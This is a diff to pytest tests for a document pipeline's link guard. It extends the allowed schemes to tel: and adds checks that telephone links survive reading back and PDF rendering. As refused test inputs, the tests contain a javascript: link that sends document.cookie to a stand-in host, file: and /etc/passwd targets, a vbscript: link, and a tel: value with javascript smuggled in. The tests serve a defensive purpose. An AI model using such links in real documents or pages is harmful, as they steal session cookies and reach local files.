@@ -806,8 +806,9 @@ def linked_draft(target: str, field: bool = False) -> bytes:
 @pytest.mark.parametrize("field", [False, True], ids=["hyperlink", "field"])
 @pytest.mark.parametrize("target", ["javascript:fetch('//a.example/'+document.cookie)",
                                     "file:///C:/Windows/System32/calc.exe", "../minutes.docx",
-                                    "vbscript:msgbox(1)"])
-def test_a_draft_linking_to_anything_but_a_web_page_or_a_mail_is_refused(tmp_path, target,
+                                    "vbscript:msgbox(1)", "tel:+44;ext=javascript:x",
+                                    "tel:0800 FLOWERS"])
+def test_a_draft_linking_to_anything_but_a_web_page_a_mail_or_a_telephone_is_refused(tmp_path, target,
                                                                          field):
     """Such a link had been imported silently, a live link in every edition and the draft."""
     from pipeline.errors import excerpt
@@ -816,16 +817,17 @@ def test_a_draft_linking_to_anything_but_a_web_page_or_a_mail_is_refused(tmp_pat
     path.write_bytes(linked_draft(target, field))
     assert refusal(path) == (
         f"holds a link on 'the ledger' (in 'See the ledger for the year.') to {excerpt(target)},"
-        " which is not a web or mail address; link its words to an address starting"
-        " https://, http:// or mailto: (Insert > Link), or remove the link, save, and run"
-        " doit again")
+        " which is not a web, mail or telephone address; link its words to an address"
+        " starting https://, http://, mailto: or tel: (Insert > Link), or remove the link,"
+        " save, and run doit again")
 
 
 @pytest.mark.parametrize("field", [False, True], ids=["hyperlink", "field"])
-def test_a_draft_linking_to_a_web_page_or_a_mail_reads_back(field):
+def test_a_draft_linking_to_a_web_page_a_mail_or_a_telephone_reads_back(field):
     from pipeline.model import Span
 
-    for target in ("HTTPS://Example.org/ledger", "mailto:clerk@example.org"):
+    for target in ("HTTPS://Example.org/ledger", "mailto:clerk@example.org",
+                   "tel:+441632960555", "tel:+44 (0)1632 960-555"):
         assert Span("the ledger", link=target) in read_back(linked_draft(target, field)).blocks[0].spans
 
 
@@ -840,6 +842,34 @@ def test_the_writers_never_link_to_anything_but_a_web_page_or_a_mail():
             a_draft((Paragraph((Span("the ledger", link=target),)),))
 
 
+def test_the_draft_links_a_telephone_number():
+    from pipeline.model import Paragraph, Span
+
+    for target in ("tel:+441632960555", "tel:+44 (0)1632 960-555"):
+        assert Span("the desk", link=target) in read_back(
+            a_draft((Paragraph((Span("the desk", link=target),)),))).blocks[0].spans
+
+
+@pytest.mark.slow  # lays out a page
+def test_the_pdf_writer_links_a_telephone_number(tmp_path):
+    """WeasyPrint escapes the spaces of a number written with them (%20): the number is
+    still one the guard lets through."""
+    import io
+
+    import pikepdf
+
+    from pipeline.layouts import load_layout
+    from pipeline.model import Document, Metadata, Paragraph, Span
+    from pipeline.writers.pdf.render import render_pdf
+
+    document = Document("desk", Metadata(title="The desk"), None, (Paragraph((
+        Span("Call "), Span("the desk", link="tel:+44 (0)1632 960-555"))),))
+    pdf = pikepdf.open(io.BytesIO(render_pdf(document, load_layout(ROOT / "layouts", "screen"),
+                                             tmp_path)))
+    assert [str(annotation.A.URI) for page in pdf.pages for annotation in page.get("/Annots", [])
+            if "/A" in annotation and "/URI" in annotation.A] == ["tel:+44%20(0)1632%20960-555"]
+
+
 @pytest.mark.slow  # lays out a page
 def test_the_pdf_writer_never_links_to_anything_but_a_web_page_or_a_mail(tmp_path):
     """Nor the PDF: WeasyPrint had made an address with no scheme a link to a file of the
@@ -852,7 +882,7 @@ def test_the_pdf_writer_never_links_to_anything_but_a_web_page_or_a_mail(tmp_pat
     for target in ("/etc/passwd", "javascript:alert(1)"):
         document = Document("ledger", Metadata(title="The ledger"), None,
                             (Paragraph((Span("See "), Span("the ledger", link=target))),))
-        with pytest.raises(RenderingError, match="is not a web or mail address"):
+        with pytest.raises(RenderingError, match="is not a web, mail or telephone address"):
             render_pdf(document, load_layout(ROOT / "layouts", "screen"), tmp_path)
 
 
